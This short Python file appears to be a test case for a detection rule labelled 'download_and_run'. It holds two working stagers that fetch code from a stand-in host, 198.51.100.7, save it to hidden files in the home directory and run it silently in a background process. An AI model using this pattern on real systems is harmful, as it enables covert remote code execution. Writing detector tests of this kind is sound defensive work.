# a Python stage saved from a response and started with this interpreter, by open() and by pathlib
import pathlib
import subprocess
import sys
import urllib.request

dest = str(pathlib.Path.home() / ".n2" / "pay")
# ruleid: download_and_run
with open(dest, "wb") as f:
    f.write(urllib.request.urlopen("http://198.51.100.7:1224/pay", timeout=15).read())
subprocess.Popen([sys.executable, dest], stdout=subprocess.DEVNULL)

target = pathlib.Path.home() / ".npl"
with urllib.request.urlopen("http://198.51.100.7:1244/client", timeout=15) as resp:
    # ruleid: download_and_run
    target.write_bytes(resp.read())
subprocess.Popen([sys.executable, str(target)], start_new_session=True)
